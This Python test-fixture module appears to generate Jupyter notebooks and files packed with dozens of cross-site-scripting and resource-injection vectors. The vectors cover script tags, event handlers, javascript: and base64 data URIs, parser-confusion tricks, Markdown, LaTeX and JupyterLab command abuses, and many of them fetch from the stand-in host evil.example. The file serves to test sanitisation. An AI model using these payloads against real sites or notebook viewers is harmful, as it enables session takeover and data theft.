"""What people have put into notebooks to take over those who look at them.

Each vector tells of itself when it runs: it asks ``evil.example`` for something, or changes the
title of a page around it. Vectors times carriers are the payloads.
"""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING, Any

from platform_server.testing.places import code_cell, notebook

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

EVIL = "https://evil.example"
FIRED = f"{EVIL}/f"  # what only scripts ask for
FIRE = f"fetch('{FIRED}');top.document.title='fired'"
_OUTPUTS = 6  # of a cell
_PACKED = base64.b64encode(f"<script>{FIRE}</script>".encode()).decode()

VECTORS: tuple[str, ...] = (
    # Scripts, and what runs them.
    f"<script>{FIRE}</script>",
    f"<ScRiPt>{FIRE}</sCrIpT>",
    f"<script src='{EVIL}/a.js'></script>",
    f"<script type=module>import '{EVIL}/a.js'</script>",
    f'<img src=x onerror="{FIRE}">',
    f"<img src=x onerror=`{FIRE}`>",
    f'<image src=x onerror="{FIRE}">',
    f'<svg onload="{FIRE}">',
    f"<svg><script>{FIRE}</script></svg>",
    f'<svg><animate onbegin="{FIRE}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{FIRE}"><text y=20>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml;base64,{_PACKED}#x"></use></svg>',
    f'<svg><foreignObject><iframe onload="{FIRE}"></iframe></foreignObject></svg>',
    f'<body onload="{FIRE}">',
    f'<details open ontoggle="{FIRE}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{FIRE}">',
    f'<select autofocus onfocus="{FIRE}"></select>',
    f'<textarea autofocus onfocus="{FIRE}"></textarea>',
    f'<video src=x onerror="{FIRE}"></video>',
    f'<audio src=x onerror="{FIRE}"></audio>',
    f'<video><source onerror="{FIRE}"></video>',
    f'<marquee onstart="{FIRE}">x</marquee>',
    f"<div style='animation:x 1s' onanimationstart=\"{FIRE}\">x</div>",
    f"<div onpointerover=\"{FIRE}\" style='position:fixed;inset:0'>x</div>",
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationend=\"{FIRE}\">x",
    f'<iframe src="javascript:{FIRE}"></iframe>',
    f'<iframe srcdoc="<script>{FIRE}</script>"></iframe>',
    f"<iframe src='data:text/html;base64,{_PACKED}'></iframe>",
    f'<object data="javascript:{FIRE}"></object>',
    f"<object data='data:text/html;base64,{_PACKED}'></object>",
    f"<embed src='data:text/html;base64,{_PACKED}'>",
    f'<a href="javascript:{FIRE}" id=go>x</a>',
    f'<a href=" &#14; javascript:{FIRE}">x</a>',
    f'<a href="java&Tab;script:{FIRE}">x</a>',
    f'<form action="javascript:{FIRE}"><button autofocus>x</button></form>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{FIRE}">',
    f'<math href="javascript:{FIRE}"><mi>x</mi></math>',
    f"<noscript><p title=\"</noscript><img src=x onerror='{FIRE}'>\"></noscript>",
    f"<template><script>{FIRE}</script></template>",
    f"<xmp><p title=\"</xmp><img src=x onerror='{FIRE}'>\"></xmp>",
    f'<!--><img src=x onerror="{FIRE}">-->',
    f'<![CDATA[><img src=x onerror="{FIRE}">]]>',
    f'<x onclick="{FIRE}" tabindex=1 autofocus onfocus="{FIRE}">x</x>',
    f'<p><style><!--</style><img src=x onerror="{FIRE}">--></p>',
    f'"><img src=x onerror="{FIRE}">',
    f"'-{FIRE}-'",
    f'${{{FIRE}}}{{{{constructor.constructor("{FIRE}")()}}}}',
    # What asks somebody for something without any script.
    f"<img src='{EVIL}/pixel.png'>",
    f"<img srcset='{EVIL}/pixel.png 1x'>",
    f"<picture><source srcset='{EVIL}/pixel.png'><img></picture>",
    f"<link rel=stylesheet href='{EVIL}/a.css'>",
    f"<link rel=prefetch href='{EVIL}/a'>",
    f"<link rel=dns-prefetch href='{EVIL}'>",
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<style>*{{background:url({EVIL}/b)}}</style>",
    f'<p style="background:url({EVIL}/b)">x</p>',
    f'<p style="list-style:url({EVIL}/b);display:list-item">x</p>',
    f"<table background='{EVIL}/b'><tr><td>x</td></tr></table>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}/'><img src=a.png>",
    f"<video poster='{EVIL}/p.png' src='{EVIL}/v.mp4' autoplay></video>",
    f"<iframe src='{EVIL}'></iframe>",
    f"<svg><image href='{EVIL}/i.png'></image></svg>",
    f"<form action='{EVIL}'><input name=q><input type=submit autofocus></form>",
    # JupyterLab's own: a click on a button runs one of its commands.
    (
        "<button data-commandlinker-command='apputils:change-theme' "
        'data-commandlinker-args=\'{"theme":"fired"}\'>x</button>'
    ),
    "<div class='jp-mod-trusted jp-OutputArea' data-commandlinker-command='x'>x</div>",
    # Links and pictures of Markdown, and formulas.
    f"[x](javascript:{FIRE})",
    f"![x]({EVIL}/pixel.png)",
    f'![x](x"onerror="{FIRE})',
    f'[x]: {EVIL} "x"\n\n[x]',
    f"<{EVIL}>",
    f'$\\text{{<img src=x onerror="{FIRE}">}}$',
    f"$\\href{{javascript:{FIRE}}}{{x}}$",
    f"$$\\unicode{{<script>{FIRE}</script>}}$$",
    f'```mermaid\ngraph TD;A["<img src=x onerror={FIRE}>"]-->B\n```',
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
)


def _data(kind: str) -> Callable[[str], dict[str, Any]]:
    def cell(vector: str) -> dict[str, Any]:
        data = {kind: vector, "text/plain": "x"}
        return _with({"output_type": "display_data", "metadata": {}, "data": data})

    return cell


def _with(output: dict[str, Any]) -> dict[str, Any]:
    return code_cell("x", outputs=[output])


CARRIERS: dict[str, Callable[[str], dict[str, Any]]] = {
    "markdown": lambda vector: {
        "cell_type": "markdown",
        "metadata": {"title": vector},
        "source": vector,
    },
    "code": code_cell,
    "raw": lambda vector: {"cell_type": "raw", "metadata": {"format": vector}, "source": vector},
    "stream": lambda vector: _with({"output_type": "stream", "name": "stdout", "text": vector}),
    "traceback": lambda vector: _with(
        {"output_type": "error", "ename": vector, "evalue": vector, "traceback": [vector]}
    ),
    "html": _data("text/html"),
    "svg": _data("image/svg+xml"),
    "latex": _data("text/latex"),
    "output in Markdown": _data("text/markdown"),
    "JSON": lambda vector: _with(
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"application/json": {vector: [vector]}},
        }
    ),
    "script": _data("application/javascript"),
    "picture": _data("image/png"),
    "Vega": _data("application/vnd.vegalite.v5+json"),
    "attachment": lambda vector: {
        "cell_type": "markdown",
        "metadata": {},
        "source": "![x](attachment:a.png)",
        "attachments": {"a.png": {"image/png": f'AAAA" {vector}'}},
    },
}


def notebooks() -> Iterator[tuple[str, bytes, int]]:
    """Give a notebook for each carrier: its name, its file, and how many payloads are in it."""
    for carrier, make in CARRIERS.items():
        cells = [cell | {"id": f"c{at}"} for at, cell in enumerate(_cells(make))]
        content: dict[str, Any] = notebook(*cells)["content"]
        content["metadata"] = {
            "title": VECTORS[0],
            "kernelspec": {"display_name": VECTORS[4], "name": VECTORS[4]},
            "language_info": {"name": VECTORS[4], "file_extension": f".{VECTORS[4]}"},
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": VECTORS[0]}},
        }
        yield f"{carrier}.ipynb", json.dumps(content).encode(), len(VECTORS)


def _cells(make: Callable[[str], dict[str, Any]]) -> Iterator[dict[str, Any]]:
    """Give a cell for each vector; outputs share cells, for pages have a frame for each cell."""
    outputs: list[Any] = []
    for cell in map(make, VECTORS):
        if cell.get("outputs"):
            outputs += cell["outputs"]
        else:
            yield cell
    for at in range(0, len(outputs), _OUTPUTS):
        yield code_cell("x", outputs=outputs[at : at + _OUTPUTS])


def files() -> Iterator[tuple[str, bytes, int]]:
    """Give files of other kinds with all vectors in them, some of which open them by themselves."""
    everything = "\n\n".join(VECTORS).encode()
    for name in ("a.md", "a.html", "a.svg", "a.csv", "a.json", "a.py", "a.txt", "a.geojson"):
        yield name, everything, len(VECTORS)
